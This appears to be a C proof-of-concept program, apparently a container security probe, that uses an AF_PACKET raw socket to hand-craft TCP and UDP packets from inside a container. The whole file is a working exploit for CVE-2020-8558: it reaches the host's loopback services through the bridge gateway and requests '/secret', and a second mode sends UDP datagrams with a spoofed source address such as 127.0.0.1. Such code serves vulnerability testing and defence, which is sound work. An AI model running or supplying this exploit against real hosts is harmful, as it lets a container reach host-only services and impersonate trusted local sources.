/* `rawtcp GATEWAY DST PORT`: from inside a container, open a TCP connection to DST:PORT by hand
 * with an AF_PACKET socket (CAP_NET_RAW only, a default capability): Ethernet frames addressed to
 * GATEWAY's MAC, so DST may be 127.0.0.1 -- the host's loopback, which the route_localnet the
 * bridge needs for published ports would otherwise accept (CVE-2020-8558).  On a SYN-ACK it sends
 * "GET /secret" and prints "answered"; else "no answer".
 * `rawtcp GATEWAY DST PORT SRC`: one UDP datagram "spoofed" to DST:PORT from SRC (e.g. 127.0.0.1,
 * which a host service may trust).  Static, so it runs in a busybox image. */
#include <arpa/inet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <linux/if_packet.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

static unsigned char gwmac[6], mymac[6];
static uint32_t src, dst;
static uint16_t sport, dport;
static int fd, ifindex;

static uint16_t csum(const unsigned char *b, size_t n, uint32_t sum) {
    for (size_t i = 0; i + 1 < n; i += 2)
        sum += (uint32_t)b[i] << 8 | b[i + 1];
    if (n & 1)
        sum += (uint32_t)b[n - 1] << 8;
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t)~sum;
}

static void put16(unsigned char *p, uint16_t v) { p[0] = v >> 8; p[1] = v & 0xff; }
static void put32(unsigned char *p, uint32_t v) { put16(p, v >> 16); put16(p + 2, v & 0xffff); }
static uint32_t get32(const unsigned char *p) { return (uint32_t)p[0] << 24 | p[1] << 16 | p[2] << 8 | p[3]; }

/* One IPv4 packet from SRC to DST carrying ``len`` bytes of protocol ``proto``, framed to the gateway. */
static void send_ip(unsigned char proto, const unsigned char *payload, size_t len) {
    unsigned char f[14 + 20 + 300] = {0};
    unsigned char *ip = f + 14;
    memcpy(f, gwmac, 6);
    memcpy(f + 6, mymac, 6);
    put16(f + 12, 0x0800);
    ip[0] = 0x45;
    put16(ip + 2, 20 + len);
    put16(ip + 4, rand() & 0xffff);
    put16(ip + 6, 0x4000);
    ip[8] = 64;
    ip[9] = proto;
    memcpy(ip + 12, &src, 4);
    memcpy(ip + 16, &dst, 4);
    put16(ip + 10, csum(ip, 20, 0));
    memcpy(ip + 20, payload, len);
    struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = ifindex, .sll_halen = 6};
    memcpy(to.sll_addr, gwmac, 6);
    sendto(fd, f, 14 + 20 + len, 0, (struct sockaddr *)&to, sizeof to);
}

static void send_tcp(uint32_t seq, uint32_t ack, unsigned char flags, const char *data) {
    unsigned char ph[12 + 20 + 256] = {0}, *tcp = ph + 12;  /* pseudo-header, then the segment */
    size_t dlen = data ? strlen(data) : 0, tlen = 20 + dlen;
    put16(tcp, sport);
    put16(tcp + 2, dport);
    put32(tcp + 4, seq);
    put32(tcp + 8, ack);
    tcp[12] = 5 << 4;
    tcp[13] = flags;
    put16(tcp + 14, 64240);
    memcpy(tcp + 20, data ? data : "", dlen);
    memcpy(ph, &src, 4);
    memcpy(ph + 4, &dst, 4);
    ph[9] = 6;
    put16(ph + 10, tlen);
    put16(tcp + 16, csum(ph, 12 + tlen, 0));
    send_ip(6, tcp, tlen);
}

static void send_udp(const char *data) {
    unsigned char udp[8 + 64] = {0};
    size_t ulen = 8 + strlen(data);
    put16(udp, sport);
    put16(udp + 2, dport);
    put16(udp + 4, ulen);  /* checksum 0: none, allowed for UDP over IPv4 */
    memcpy(udp + 8, data, strlen(data));
    send_ip(17, udp, ulen);
}

/* The next segment from DST:PORT to us (1: got one, *seq and *flags set; 0: timeout). */
static int recv_tcp(uint32_t *seq, unsigned char *flags) {
    unsigned char b[2048];
    for (;;) {
        ssize_t n = recv(fd, b, sizeof b, 0);
        if (n < 0)
            return 0;
        const unsigned char *ip = b + 14;
        if (n < 14 + 40 || ip[9] != 6 || memcmp(ip + 12, &dst, 4))
            continue;
        const unsigned char *tcp = ip + (ip[0] & 15) * 4;
        if ((tcp[0] << 8 | tcp[1]) != dport || (tcp[2] << 8 | tcp[3]) != sport)
            continue;
        *seq = get32(tcp + 4);
        *flags = tcp[13];
        return 1;
    }
}

static int gateway_mac(const char *gw) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(9)};
    inet_pton(AF_INET, gw, &to.sin_addr);
    int u = socket(AF_INET, SOCK_DGRAM, 0);
    for (int tries = 0; tries < 50; tries++) {  /* any packet to it fills the ARP cache */
        sendto(u, "x", 1, 0, (struct sockaddr *)&to, sizeof to);
        usleep(100000);
        FILE *arp = fopen("/proc/net/arp", "r");
        char line[256], ip[64], mac[64];
        unsigned flags;
        while (arp && fgets(line, sizeof line, arp))
            if (sscanf(line, "%63s %*s %x %63s", ip, &flags, mac) == 3 && !strcmp(ip, gw) && (flags & 2) &&
                sscanf(mac, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &gwmac[0], &gwmac[1], &gwmac[2], &gwmac[3],
                       &gwmac[4], &gwmac[5]) == 6) {
                fclose(arp);
                close(u);
                return 1;
            }
        if (arp)
            fclose(arp);
    }
    close(u);
    return 0;
}

int main(int argc, char **argv) {
    if (argc != 4 && argc != 5)
        return 2;
    srand(time(NULL) ^ getpid());
    inet_pton(AF_INET, argv[2], &dst);
    dport = atoi(argv[3]);
    sport = 20000 + rand() % 40000;
    struct ifreq ifr = {0};
    strcpy(ifr.ifr_name, "eth0");
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    if (ioctl(s, SIOCGIFADDR, &ifr) < 0)
        return perror("SIOCGIFADDR"), 3;
    src = ((struct sockaddr_in *)&ifr.ifr_addr)->sin_addr.s_addr;
    if (ioctl(s, SIOCGIFHWADDR, &ifr) < 0)
        return perror("SIOCGIFHWADDR"), 3;
    memcpy(mymac, ifr.ifr_hwaddr.sa_data, 6);
    ifindex = if_nametoindex("eth0");
    if (!gateway_mac(argv[1]))
        return fprintf(stderr, "no ARP entry for %s\n", argv[1]), 3;
    fd = socket(AF_PACKET, SOCK_RAW, htons(0x0800));
    if (fd < 0)
        return perror("AF_PACKET"), 3;
    struct sockaddr_ll me = {.sll_family = AF_PACKET, .sll_protocol = htons(0x0800), .sll_ifindex = ifindex};
    bind(fd, (struct sockaddr *)&me, sizeof me);
    if (argc == 5) {
        inet_pton(AF_INET, argv[4], &src);
        send_udp("spoofed\n");
        puts("sent");
        return 0;
    }
    struct timeval tv = {.tv_sec = 2};
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    uint32_t iss = rand(), seq;
    unsigned char flags;
    const char *req = "GET /secret HTTP/1.0\r\n\r\n";
    send_tcp(iss, 0, 0x02, NULL);  /* SYN */
    while (recv_tcp(&seq, &flags)) {
        if ((flags & 0x12) != 0x12)
            continue;
        send_tcp(iss + 1, seq + 1, 0x10, NULL);  /* ACK */
        send_tcp(iss + 1, seq + 1, 0x18, req);   /* PSH ACK: the request */
        usleep(300000);
        send_tcp(iss + 1 + strlen(req), seq + 1, 0x04, NULL);  /* RST: leave nothing open */
        puts("answered");
        return 0;
    }
    puts("no answer");
    return 0;
}
